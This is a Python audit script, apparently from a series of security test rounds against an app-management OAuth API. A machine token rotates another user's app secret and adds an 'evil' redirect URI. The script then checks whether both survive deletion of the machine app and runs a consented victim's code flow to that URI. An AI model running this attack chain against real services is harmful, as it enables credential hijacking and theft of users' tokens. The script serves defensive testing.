"""Round 12: a management app's token rotates the secret of (and edits) an ordinary
app a person made at the dashboard. Does what it handed out end with the machine?
(The key route was fixed in round 11, finding 1a: a secret issued through a key ends with it.)"""
import time
from lib import *
A = os.environ.get("A", BASE); B = os.environ.get("B", A)
owner, _ = login("owner@acme.test", base=A); adm, _ = login("admin@acme.test", base=A)
RU = "https://app.acme.test/cb"
s, b = call("POST", "/v1/apps", owner, {"name": "first-party", "type": "confidential", "redirect_uris": [RU],
            "grant_types": ["client_credentials", "authorization_code", "refresh_token"], "scopes": ["read", "openid", "offline_access"]}, base=A)
Q, Q_SEC = b["data"]["client_id"], b["data"]["client_secret"]
s, b = call("POST", "/v1/apps", adm, {"name": "bot", "type": "confidential", "grant_types": ["client_credentials"],
            "scopes": ["read", "write", "delete"], "management": True}, base=A)
M = (b["data"]["client_id"], b["data"]["client_secret"]); MT = cc(*M, "read write delete", base=A)[1]["access_token"]
s, b = call("POST", f"/v1/apps/{Q}/rotate-secret", MT, {"grace_period": 0}, base=A)
print("machine rotates the owner's app's secret:", s, (b.get("error") or {}).get("message", ""))
NEW = (b.get("data") or {}).get("client_secret")
s, b = call("PATCH", f"/v1/apps/{Q}", MT, {"redirect_uris": [RU, "http://127.0.0.1:9999/evil"]}, base=A)
print("machine adds a redirect URI:", s)
d = call("GET", f"/v1/apps/{Q}", owner, base=A)[1]["data"]
print("app now: created_by admin?", d.get("created_by") == call("GET", "/v1/auth/me", adm, base=A)[1]["data"]["id"],
      "made_by_app", d.get("made_by_app"), "made_by_key", d.get("made_by_key"))
print("delete the machine:", call("DELETE", f"/v1/apps/{M[0]}", adm, base=A)[0]); time.sleep(1.2)
print("machine token /v1:", call("GET", "/v1/apps?limit=1", MT, base=B)[0])
if NEW:
    st, t = cc(Q, NEW, "read", base=B)
    print("secret handed to the machine's holder, after the machine is deleted: cc", st, "| owner's old secret:", cc(Q, Q_SEC, "read", base=B)[0])
print("redirect URIs after the machine is deleted:", call("GET", f"/v1/apps/{Q}", owner, base=B)[1]["data"]["redirect_uris"])
# The code flow with the kept secret and the added redirect URI, for a user who consented before.
u = page_login("victim@acme.test", base=B)
try:
    code, ver = authorize(u, Q, "http://127.0.0.1:9999/evil", scope="openid read", base=B)
    st, t = redeem(Q, NEW, code, ver, "http://127.0.0.1:9999/evil", base=B)
    print("code flow to the evil URI with the kept secret:", st, "access_token" in t)
except Exception as e:
    print("code flow:", str(e)[:120])
